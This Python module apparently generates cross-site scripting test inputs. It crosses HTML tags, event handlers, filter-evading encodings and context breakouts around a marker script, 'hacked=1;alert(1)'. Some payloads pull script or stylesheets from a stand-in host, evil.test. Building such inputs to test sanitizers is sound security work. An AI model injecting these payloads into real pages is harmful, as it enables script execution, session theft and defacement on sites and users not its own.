"""Strings that run a script where a page takes text for markup: tags × events × spellings × places to break out of."""

from itertools import product
from random import Random

CODE = "hacked=1;alert(1)"
"""What all of them try: a page on which it ran has ``hacked``."""
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onclick",
    "onbegin",
    "onanimationstart",
    "onpageshow",
)
WITH_EVENT = (
    "<img src=x {event}={code}>",
    "<svg {event}={code}>",
    "<svg><animate {event}={code} attributeName=x dur=1s>",
    "<body {event}={code}>",
    "<input autofocus {event}={code}>",
    "<details open {event}={code}>",
    "<video><source {event}={code}></video>",
    "<audio src=x {event}={code}>",
    "<iframe src=about:blank {event}={code}></iframe>",
    "<object data=x {event}={code}></object>",
    "<x tabindex=0 style=animation-name:x {event}={code}>",
)
WITHOUT_EVENT = (
    "<script>{code}</script>",
    "<script src=https://evil.test/x.js></script>",
    "<iframe src=javascript:{code}></iframe>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<a href=javascript:{code}>x</a>",
    "<form action=javascript:{code}><button>x</button></form>",
    "<button formaction=javascript:{code}>x</button>",
    "<embed src=javascript:{code}>",
    "<meta http-equiv=refresh content=0;url=javascript:{code}>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<math href=javascript:{code}>x</math>",
    "<svg><script>{code}</script></svg>",
    "<template><script>{code}</script></template>",
    "javascript:{code}",
    "{{{{{code}}}}}",
    "${{{code}}}",
)
PLACES = (
    "",
    '">',
    "'>",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "-->",
    "]]>",
    "</template>",
    "\\'`;",
    "x' ",
)


def spellings(text: str) -> tuple[str, ...]:
    """Ways past a filter that looks for the plain one."""
    return (
        text,
        text.upper().replace("HACKED=1;ALERT", "hacked=1;alert"),
        "".join(letter.upper() if k % 2 else letter for k, letter in enumerate(text.split("=")[0]))
        + text[len(text.split("=")[0]) :],
        text.replace("<", "&lt;").replace(">", "&gt;"),
        text.replace("<", "&#60;"),
        text.replace("<", "%3C").replace(">", "%3E"),
        text.replace("<", "\\u003c").replace(">", "\\u003e"),
        text.replace("<", "\\x3c"),
        text.replace("<", "<\0"),
        text.replace(" ", "/"),
        text.replace(" ", "\n"),
        text.replace(">", ""),
        text.replace("<", "<<"),
        text.replace("<", "\uff1c"),
        text.replace("javascript:", "java\tscript:"),
    )


def hostile_strings(number: int, seed: int = 0) -> list[str]:
    """So many different ones, of every kind."""
    tags = [tag.format(event=event, code=CODE) for tag, event in product(WITH_EVENT, EVENTS)]
    tags += [tag.format(code=CODE) for tag in WITHOUT_EVENT]
    every = {place + text: None for tag in tags for text in spellings(tag) for place in PLACES}
    plain = tags[: number // 3] + tags[-len(WITHOUT_EVENT) :]
    others = Random(seed).sample(list(every), number)
    return list(dict.fromkeys([*plain, *others]))[:number]
